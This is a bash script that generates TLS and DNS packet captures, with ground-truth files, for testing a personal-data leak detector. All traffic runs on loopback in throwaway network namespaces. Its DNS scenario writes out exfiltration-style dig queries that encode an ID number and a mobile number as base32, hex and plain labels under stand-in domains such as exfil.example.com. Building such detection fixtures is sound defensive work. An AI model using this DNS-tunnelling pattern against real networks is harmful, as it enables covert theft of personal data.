#!/usr/bin/env bash
# TLS and DNS captures for leakwatch (called by make.sh; run as root):
#     sudo bash pcaps/make_nettls.sh            # tls_sni.pcap + dns_names.pcap
# Real software on loopback inside throw-away netns lw-nettls-*: openssl
# s_server + curl (TLS, SNI, ALPN) and python http.server (cleartext);
# dnsmasq + dig (DNS) and python sockets (POST without a Host header).
# Addresses stay 127.0.0.x: the DNS answers name these very addresses, and
# rewriting the IP headers alone would break that link.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
TOOLS=$HERE/tools
PY=${PYTHON:-python3}

BGPIDS=()
stop_bg() {
    local p
    for p in "${BGPIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    for p in "${BGPIDS[@]}"; do wait "$p" 2>/dev/null || true; done
    BGPIDS=()
}
start_bg() { # LOG WORD CMD...: start CMD, wait until LOG shows WORD
    local log=$1 word=$2 i
    shift 2
    "$@" >"$log" 2>&1 &
    BGPIDS+=("$!")
    for i in $(seq 200); do
        grep -q "$word" "$log" 2>/dev/null && return 0
        sleep 0.05
    done
    echo "make_nettls.sh: '$*' did not start:" >&2
    cat "$log" >&2
    return 1
}

scenario_tls() {
    local tmp=$1
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
        -subj /CN=api.example.cn -keyout "$tmp/key.pem" -out "$tmp/cert.pem" 2>/dev/null
    # s_server answers the first request line and closes (-www status page).
    start_bg "$tmp/tls.log" ACCEPT openssl s_server -accept 127.0.0.2:8443 -naccept 1 \
        -cert "$tmp/cert.pem" -key "$tmp/key.pem" -alpn http/1.1 -www
    start_bg "$tmp/http.log" ready $PY "$TOOLS/nettls.py" http-server 127.0.0.2 8080
    curl -sS -k -o /dev/null --max-time 5 --http1.1 --interface 127.0.0.1 --local-port 42101 \
        --resolve api.example.cn:8443:127.0.0.2 -G -d @"$tmp/tls_form.txt" \
        https://api.example.cn:8443/submit
    curl -sS -o /dev/null --max-time 5 --interface 127.0.0.1 --local-port 42102 \
        --resolve api.example.cn:8080:127.0.0.2 -G -d @"$tmp/tls_form.txt" \
        http://api.example.cn:8080/submit
}

scenario_dns() {
    local tmp=$1 v b32 hexl
    v=$tmp/values.json
    start_bg "$tmp/dnsmasq.log" started dnsmasq --no-daemon --log-queries --port 53 \
        --listen-address 127.0.0.53 --bind-interfaces --no-resolv --no-hosts \
        --address=/api.example.cn/127.0.0.2 --host-record=edge.example.net,127.0.0.3 \
        --cname=files.example.cn,edge.example.net \
        --txt-record=info.example.cn,"contact $($PY -c 'import json,sys; print(json.load(open(sys.argv[1]))["txt_mobile"])' "$v")"
    start_bg "$tmp/h1.log" ready $PY "$TOOLS/nettls.py" http-server 127.0.0.2 8080
    start_bg "$tmp/h2.log" ready $PY "$TOOLS/nettls.py" http-server 127.0.0.3 8081
    start_bg "$tmp/h3.log" ready $PY "$TOOLS/nettls.py" http-server 127.0.0.4 8082
    local DIG=(dig +tries=1 +time=2 -b 127.0.0.1 @127.0.0.53)
    "${DIG[@]}" api.example.cn A >"$tmp/d1.txt"
    "${DIG[@]}" files.example.cn A >"$tmp/d2.txt"
    grep -q 127.0.0.3 "$tmp/d2.txt" || { cat "$tmp/d2.txt" >&2; return 1; }
    $PY "$TOOLS/nettls.py" post-nohost 127.0.0.2 8080 42201 "$tmp/api_form.txt"
    $PY "$TOOLS/nettls.py" post-nohost 127.0.0.3 8081 42202 "$tmp/files_form.txt"
    $PY "$TOOLS/nettls.py" post-nohost 127.0.0.4 8082 42203 "$tmp/plain_form.txt"
    get() { $PY -c 'import json,sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$v" "$1"; }
    b32=$($PY "$TOOLS/nettls.py" b32 "idcard:$(get b32_id);source=hr-export")
    hexl=$($PY "$TOOLS/nettls.py" hex "$(get hex_mobile)")
    "${DIG[@]}" "$b32.x.exfil.example.com" TXT >/dev/null || true
    "${DIG[@]}" "$hexl.t.exfil.example.com" A >/dev/null || true
    "${DIG[@]}" "$(get label_mobile).leak.example.com" A >/dev/null || true
    "${DIG[@]}" info.example.cn TXT >"$tmp/d3.txt"
}

inner() {
    local name=$1 raw=$2 tmp=$3
    trap 'stop_bg' EXIT
    ip link set lo up mtu 1500
    ip addr add 127.0.0.53/8 dev lo 2>/dev/null || true
    ethtool -K lo tso off gso off gro off >/dev/null 2>&1 || true
    start_bg "$tmp/tcpdump.log" "listening on" tcpdump -i lo -U --immediate-mode -s 0 -w "$raw" 'tcp or udp'
    local td=${BGPIDS[0]}
    "scenario_$name" "$tmp"
    sleep 1
    kill -INT "$td"
    wait "$td" || true
    stop_bg
}

if [[ ${1:-} == __inner ]]; then
    inner "$2" "$3" "$4"
    exit 0
fi

[[ $(id -u) == 0 ]] || { echo "make_nettls.sh: run as root" >&2; exit 1; }
for c in dnsmasq:dnsmasq-base dig:dnsutils openssl:openssl tcpdump:tcpdump curl:curl; do
    command -v "${c%%:*}" >/dev/null || {
        apt-get update -qq
        DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${c#*:}"
    }
done

WORK=$(mktemp -d)
NSES=()
cleanup() {
    local ns
    for ns in "${NSES[@]}"; do ip netns del "$ns" 2>/dev/null || true; done
    rm -rf "$WORK"
}
trap cleanup EXIT
$PY "$TOOLS/nettls.py" values "$WORK"

capture() { # SCENARIO OUT.pcap
    local ns=lw-nettls-$1
    ip netns del "$ns" 2>/dev/null || true
    ip netns add "$ns"
    NSES+=("$ns")
    ip netns exec "$ns" bash "$HERE/make_nettls.sh" __inner "$1" "$WORK/$1.raw.pcap" "$WORK"
    ip netns del "$ns"
    cp "$WORK/$1.raw.pcap" "$2"
    echo "== $2: $(tcpdump -nn -r "$2" 2>/dev/null | wc -l) packets, $(stat -c %s "$2") bytes"
}

CURL_V=$(curl --version | head -1 | cut -d' ' -f1-2)
OSSL_V=$(openssl version | cut -d' ' -f1-2)
DNSMASQ_V=$(dnsmasq --version | head -1 | cut -d' ' -f1-3)
DIG_V=$(dig -v 2>&1 | head -1)
capture tls "$HERE/tls_sni.pcap"
$PY "$TOOLS/nettls.py" truth tls_sni "$WORK" "$HERE/tls_sni.truth.json" \
    "$CURL_V GET with PI in the query over TLS to $OSSL_V s_server (SNI api.example.cn, ALPN http/1.1, port 8443) and the same GET in cleartext to python http.server (8080); netns lo, 127.0.0.1 -> 127.0.0.2"
capture dns "$HERE/dns_names.pcap"
$PY "$TOOLS/nettls.py" truth dns_names "$WORK" "$HERE/dns_names.truth.json" \
    "$DIG_V queries to $DNSMASQ_V (A, CNAME chain, TXT with PI, base32/hex/plain PI in labels), then python socket POSTs without Host to the resolved addresses; netns lo 127.0.0.x"
